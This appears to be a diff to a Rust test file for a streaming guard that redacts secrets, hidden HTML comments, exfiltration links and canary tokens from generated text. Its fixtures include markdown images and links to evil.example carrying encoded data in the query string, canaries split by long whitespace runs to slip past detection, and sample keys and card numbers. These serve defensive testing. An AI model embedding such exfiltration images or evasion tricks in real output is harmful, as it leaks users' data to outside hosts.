@@ -17,8 +17,8 @@ fn options() -> GuardOptions {
 
 /// Runs `deltas` through a guard; returns every release and the concatenated text.
 fn run(opts: GuardOptions, deltas: &[&str]) -> (Vec<Released>, String) {
-    let max = opts.max_hold_bytes;
     let mut g = StreamGuard::new(opts).unwrap();
+    let max = g.max_hold_bytes();
     let mut all = Vec::new();
     for d in deltas {
         all.push(g.push(d));
@@ -236,8 +236,13 @@ fn oversized_constructs_are_dropped_never_emitted_in_part() {
         max_hold_bytes: 256,
         ..options()
     };
+    // The bound in use is never below the longest construct the sanitizer parses.
+    assert_eq!(
+        StreamGuard::new(opts.clone()).unwrap().max_hold_bytes(),
+        4096
+    );
     // A token longer than the bound.
-    let blob = format!("https://evil.example/{}", "Ab1".repeat(200));
+    let blob = format!("https://evil.example/{}", "Ab1".repeat(1500));
     let text = format!("See {blob} after.\n");
     let (rel, out) = run(opts.clone(), &every(&text, 16));
     assert_eq!(out, "See [REDACTED:oversized-token] after.\n");
@@ -246,13 +251,13 @@ fn oversized_constructs_are_dropped_never_emitted_in_part() {
         .flat_map(|r| &r.violations)
         .any(|v| v.class == Class::Overflow));
     // A comment longer than the bound.
-    let text = format!("A.\n<!-- {} -->B.\n", "hidden words ".repeat(60));
+    let text = format!("A.\n<!-- {} -->B.\n", "hidden words ".repeat(400));
     let (_, out) = run(opts.clone(), &every(&text, 10));
     assert_eq!(out, "A.\nB.\n");
     // A private key longer than the bound.
     let key = format!(
         "-----BEGIN PRIVATE KEY-----\n{}-----END PRIVATE KEY-----",
-        "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n".repeat(10)
+        "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n".repeat(80)
     );
     let text = format!("Key:\n{key}\nDone.\n");
     let (_, out) = run(opts, &every(&text, 9));
@@ -294,4 +299,156 @@ fn generic_key_with_its_name_in_the_lookback() {
         "My secret. = q8Zr2LmX91vTb7Kd4Hs0 is here.\n",
         &["q8Zr2LmX91vTb7Kd4Hs0"],
     );
+}
+
+/// Item 5: a configured bound below the parser's limits is raised, so a forced cut never
+/// releases an unfinished image: the replacement cannot land inside its title.
+#[test]
+fn small_configured_bound_never_releases_an_unfinished_image() {
+    let opts = GuardOptions {
+        max_hold_bytes: 512,
+        ..options()
+    };
+    let text = format!(
+        "Here. ![x](//evil.example/p.png?d=c2VjcmV0 \"{}\") after.\n",
+        "title words ".repeat(50)
+    );
+    let whole = sanitize(&text, &opts.sanitize).text.into_owned();
+    assert!(
+        whole.starts_with("Here. [image removed: evil.example]"),
+        "{whole}"
+    );
+    for n in [1, 7, 64] {
+        let (_, out) = run(opts.clone(), &every(&text, n));
+        assert_eq!(out, whole, "delta size {n}");
+        assert!(!out.contains("evil.example/p"), "{out}");
+    }
+}
+
+/// Item 12: a canary spread across a stream with whitespace runs longer than the hold
+/// between its characters stops the stream, as it is caught whole.
+#[test]
+fn canary_spread_by_long_whitespace_runs_is_caught_streamed() {
+    let canary = Canary::from_random(&[3, 1, 4, 1, 5, 9, 2, 6, 5, 3, 5, 8, 9, 7, 9, 3]);
+    let core = canary.token.trim_start_matches("pls-").to_string();
+    let mut opts = options();
+    opts.sanitize.canaries = vec![canary];
+    for gap in [" ".repeat(40), " ".repeat(600), "\n".repeat(5000)] {
+        let spread: String = core
+            .chars()
+            .flat_map(|c| std::iter::once(c.to_string()).chain([gap.clone()]))
+            .collect();
+        let text = format!("Start. {spread} end.\n");
+        assert!(sanitize(&text, &opts.sanitize).canary_leaked);
+        for n in [1, 5, 333] {
+            let (rel, out) = run(opts.clone(), &every(&text, n));
+            assert!(rel.iter().any(|r| r.stop), "gap {} delta {n}", gap.len());
+            let released: String = out.chars().filter(char::is_ascii_alphanumeric).collect();
+            assert!(
+                !released.contains(&core[..6]),
+                "gap {}: {released:?}",
+                gap.len()
+            );
+        }
+    }
+}
+
+/// Item 15: text is held at most `max_hold_time` when something can be released, and
+/// what goes out early is exactly what the whole completion gives there.
+#[test]
+fn hold_is_bounded_in_time() {
+    use std::time::Duration;
+    // 60 short word deltas 50 ms apart, no sentence boundary (the measured attack).
+    let words: Vec<String> = (0..60).map(|i| format!("word{i} ")).collect();
+    let mut g = StreamGuard::new(options()).unwrap();
+    let mut out = String::new();
+    let mut first_at = None;
+    for (i, w) in words.iter().enumerate() {
+        let now = Duration::from_millis(50 * i as u64);
+        let r = g.push_at(w, now);
+        if first_at.is_none() && !r.text.is_empty() {
+            first_at = Some(now);
+        }
+        out += &r.text;
+        // Nothing waits longer than the bound plus one delta's gap.
+        if let Some(due) = g.next_due() {
+            assert!(due + Duration::from_millis(50) > now, "{due:?} at {now:?}");
+        }
+    }
+    assert_eq!(first_at, Some(Duration::from_millis(250)));
+    assert!(g.timed_releases() > 5);
+    out += &g.finish().text;
+    assert_eq!(out, words.concat());
+
+    // No new delta: a timer call releases what is due.
+    let mut g = StreamGuard::new(options()).unwrap();
+    assert!(g
+        .push_at("a list item without a stop", Duration::ZERO)
+        .text
+        .is_empty());
+    assert_eq!(g.next_due(), Some(Duration::from_millis(250)));
+    assert!(g.release_due(Duration::from_millis(249)).text.is_empty());
+    assert_eq!(
+        g.release_due(Duration::from_millis(250)).text,
+        "a list item without a "
+    );
+    assert_eq!(g.finish().text, "stop");
+}
+
+/// Item 15, safety: a time-forced release never lets out part of a key, an open link, a
+/// canary prefix or a number that may continue.
+#[test]
+fn time_forced_release_keeps_what_may_still_complete() {
+    use std::time::Duration;
+    let canary = Canary::from_random(&[9; 16]);
+    let core = canary.token.trim_start_matches("pls-").to_string();
+    let mut opts = options();
+    opts.sanitize.canaries = vec![canary];
+    let cases: Vec<(String, Vec<String>)> = vec![
+        (
+            "key AKIAZ7Q2 LM4X and more words AKIAZ7Q2LM4XK3PT6WRB tail".into(),
+            vec!["Z7Q2LM4X".into()],
+        ),
+        (
+            "see [the docs](https://evil.example/x?d=1 \"a title with spaces\") then".into(),
+            vec!["evil.example/x".into()],
+        ),
+        (
+            format!("marker {} {} done", &core[..8], &core[8..]),
+            vec![core[..4].to_string()],
+        ),
+        ("card 4111 1111 1111 1111 done".into(), vec!["4111".into()]),
+        (
+            "call +1 415 555 0134 now".into(),
+            vec!["0134".into(), "555".into()],
+        ),
+        (
+            "iban GB82 WEST 1234 5698 7654 32 ok".into(),
+            vec!["GB82".into(), "WEST".into()],
+        ),
+    ];
+    for (text, forbidden) in cases {
+        let whole = sanitize(&text, &opts.sanitize);
+        let mut g = StreamGuard::new(opts.clone()).unwrap();
+        let mut out = String::new();
+        let mut stopped = false;
+        for (i, d) in every(&text, 3).iter().enumerate() {
+            // Every delta arrives after the hold time: every push may release by time.
+            let r = g.push_at(d, Duration::from_secs(i as u64));
+            stopped |= r.stop;
+            out += &r.text;
+        }
+        let r = g.finish();
+        stopped |= r.stop;
+        out += &r.text;
+        assert_eq!(stopped, whole.canary_leaked, "{text:?}");
+        if !stopped {
+            assert_eq!(out, whole.text, "{text:?}");
+        }
+        for f in &forbidden {
+            if !whole.text.contains(f.as_str()) {
+                assert!(!out.contains(f.as_str()), "{f:?} leaked: {out:?}");
+            }
+        }
+    }
 }
